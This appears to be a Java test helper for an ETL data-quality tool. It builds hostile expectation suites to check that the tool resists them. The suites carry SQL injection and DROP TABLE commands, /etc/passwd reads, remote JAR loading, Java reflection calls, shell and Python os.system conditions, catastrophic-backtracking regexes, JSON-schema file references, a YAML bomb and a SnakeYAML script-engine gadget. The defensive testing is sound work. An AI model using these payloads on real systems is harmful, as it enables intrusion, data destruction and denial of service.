package vn.kho.etl.jobs;

import static vn.kho.etl.jobs.HostileFilesTest.MARK;
import static vn.kho.etl.jobs.HostileHome.bomb;
import static vn.kho.etl.jobs.HostileHome.next;
import static vn.kho.etl.jobs.HostileHome.quoted;

import java.io.IOException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

/** Suites whose queries, conditions, patterns or texts do more than judge rows. */
record HostileSuites(HostileHome home, Path folder, String url, List<String> names) {
  void write() throws IOException {
    queries();
    conditions();
    patterns();
    schemas();
    texts();
  }

  private void queries() throws IOException {
    List<String> all = new ArrayList<>(commands());
    all.addAll(reads());
    for (String query : all) {
      home.rule(
          next(names, "query"),
          "{type: unexpected_rows_expectation, unexpected_rows_query: " + quoted(query) + "}");
    }
    for (String table : List.of("csv.`/etc/passwd`", "x WHERE reflect('a','b')=1", "ops.run")) {
      home.rule(
          next(names, "query"),
          "{type: expect_table_row_count_to_equal_other_table, other_table_name: "
              + quoted(table)
              + "}");
    }
    home.rule(
        next(names, "query"),
        "{type: expect_query_results_to_match_comparison, base_query: 'SELECT 1', comparison_query:"
            + " 'SELECT * FROM text.`/etc/passwd`'}");
    home.rule(
        next(names, "query"),
        "{type: expect_query_value_to_be_between, query: 'SELECT version()', min_value: 1}");
  }

  private List<String> commands() {
    return List.of(
        "DROP TABLE kho.trial.good",
        "INSERT INTO kho.trial.good VALUES ('x', 'y')",
        "INSERT OVERWRITE LOCAL DIRECTORY '" + folder.resolve(MARK) + "' SELECT 1",
        "CREATE TABLE kho.trial.other AS SELECT 1 AS a",
        "DELETE FROM kho.trial.good",
        "CALL kho.system.expire_snapshots('trial.good')",
        "SET spark.sql.runSQLOnFiles=true",
        "ADD JAR '" + url + "/x.jar'",
        "CREATE TEMPORARY FUNCTION f AS 'x.Y' USING JAR '" + url + "/x.jar'",
        "SELECT reflect('java.lang.Runtime', 'getRuntime')",
        "SELECT java_method('java.lang.System', 'getenv', 'PATH')",
        "SELECT try_reflect('java.lang.System', 'exit', 0)");
  }

  private List<String> reads() {
    return List.of(
        "SELECT * FROM csv.`/etc/passwd`",
        "SELECT * FROM text.`/etc/passwd` WHERE value LIKE '%root%'",
        "SELECT * FROM json.`" + url + "/x`",
        "SELECT * FROM `/etc/passwd`",
        "SELECT * FROM {batch} WHERE code IN (SELECT value FROM text.`/etc/passwd`)",
        "WITH t AS (SELECT input_file_name() f) SELECT * FROM t",
        "SELECT TRANSFORM(code) USING 'touch /tmp/" + MARK + "' FROM {batch}",
        "SELECT * FROM kho.quality.quarantine",
        "SELECT * FROM range(100000000000)",
        "SELECT sum(a.id) FROM range(1000000) a",
        "SELECT repeat(code, 2000000000) FROM {batch}",
        "SELECT 1; DROP TABLE kho.trial.good",
        "SELECT " + "(".repeat(3_000) + "1" + ")".repeat(3_000),
        "SELECT 1 FROM {batch} WHERE " + "code = 'x' OR ".repeat(8_000) + "false");
  }

  private void conditions() throws IOException {
    for (String condition :
        List.of(
            "reflect('java.lang.System', 'getenv', 'PATH') = 'x'",
            "code IN (SELECT value FROM text.`/etc/passwd`)",
            "input_file_name() LIKE '%x%'",
            "EXISTS (SELECT * FROM ops.run)",
            "code RLIKE '(((a{1,1000}){1,1000}){1,1000})'",
            "true; DROP TABLE kho.trial.good")) {
      home.rule(next(names, "condition"), condition(condition, "spark"));
    }
    for (String condition :
        List.of(
            "__import__('os').system('touch /tmp/" + MARK + "')",
            "@os.system('id')",
            "code == reflect('a', 'b')",
            "col('code').apply(eval) == 1",
            "(".repeat(20_000) + "code == 'A'" + ")".repeat(20_000),
            "not ".repeat(20_000) + "code == 'A'")) {
      home.rule(next(names, "condition"), condition(condition, "pandas"));
    }
    home.rule(
        next(names, "condition"),
        "{type: expect_column_values_to_not_be_null, column: code, row_condition: {type:"
            + " pass_through, pass_through_filter: \"reflect('a','b')\"}, condition_parser: spark}");
  }

  private static String condition(String condition, String parser) {
    return "{type: expect_column_values_to_be_in_set, column: other, value_set: ['1', '2'],"
        + " row_condition: "
        + quoted(condition)
        + ", condition_parser: "
        + parser
        + "}";
  }

  private void patterns() throws IOException {
    String long1 = "code,other\nA," + "a".repeat(50_000) + "!\n";
    for (String regex : List.of("(a+)+$", "^(a|a)*$", "^(a*)*b", "(.*)*x", "(a+)+\\1x")) {
      String name = next(names, "pattern");
      home.rule(name, regex(regex));
      home.delivery(name + ".csv", long1);
    }
    for (String regex :
        List.of(
            "(".repeat(5_000) + "a" + ")".repeat(5_000),
            "((a{1,100000}){1,100000})",
            "a{1,99999999}",
            "((){9999}){9999}",
            "(a",
            "[" + "a-z&&[".repeat(5_000))) {
      home.rule(next(names, "pattern"), regex(regex));
    }
    String name = next(names, "pattern");
    home.rule(name, regex("x".repeat(3_000)));
    home.delivery(name + ".csv", "code,other\nA," + "x".repeat(1_000_000) + "y\nB,no\n");
    name = next(names, "pattern");
    home.rule(
        name,
        "{type: expect_column_values_to_match_like_pattern, column: other, like_pattern:"
            + " '%a%a%a%a%a%a%a%a%a%b'}");
    home.delivery(name + ".csv", long1);
  }

  private static String regex(String regex) {
    return "{type: expect_column_values_to_match_regex, column: other, regex: "
        + quoted(regex)
        + "}";
  }

  private void schemas() throws IOException {
    for (String schema :
        List.of(
            "{$ref: '" + url + "/schema.json'}",
            "{$ref: 'file:///etc/passwd'}",
            "{$ref: 'classpath:/kho.json'}",
            "{$ref: 'other.json#/x'}",
            "{properties: {a: {items: {$ref: '" + url + "/x'}}}}",
            "{allOf: [{$dynamicRef: '" + url + "/x'}]}",
            "{$schema: '" + url + "/meta', type: object}",
            "{pattern: '((a{1,9999}){1,9999})'}",
            "{$ref: '#'}",
            "{type: 3}")) {
      home.rule(
          next(names, "schema"),
          "{type: expect_column_values_to_match_json_schema, column: other, json_schema: "
              + schema
              + "}");
    }
  }

  private void texts() throws IOException {
    for (String text :
        List.of(
            "suite: x\n" + bomb(),
            "suite: x\nexpectations: " + "[".repeat(50_000),
            "suite: x\nexpectations: " + "{a: ".repeat(5_000),
            "suite: x\nexpectations: &a [*a]",
            "suite: x\nexpectations: !!javax.script.ScriptEngineManager [!!java.net.URL ['"
                + url
                + "']]",
            "suite: x\nexpectations:\n- {type: expect_column_max_to_be_between, column: code,"
                + " max_value: "
                + "9".repeat(1_000_000)
                + "}",
            "suite: x\nparameters: {a: 9e999999999}\nexpectations:\n- {type:"
                + " expect_table_row_count_to_equal, value: {$PARAMETER: 'a * a'}}",
            "\u0000\u0001",
            "a".repeat(5_000_000))) {
      home.suiteText(next(names, "suite"), text);
    }
  }
}
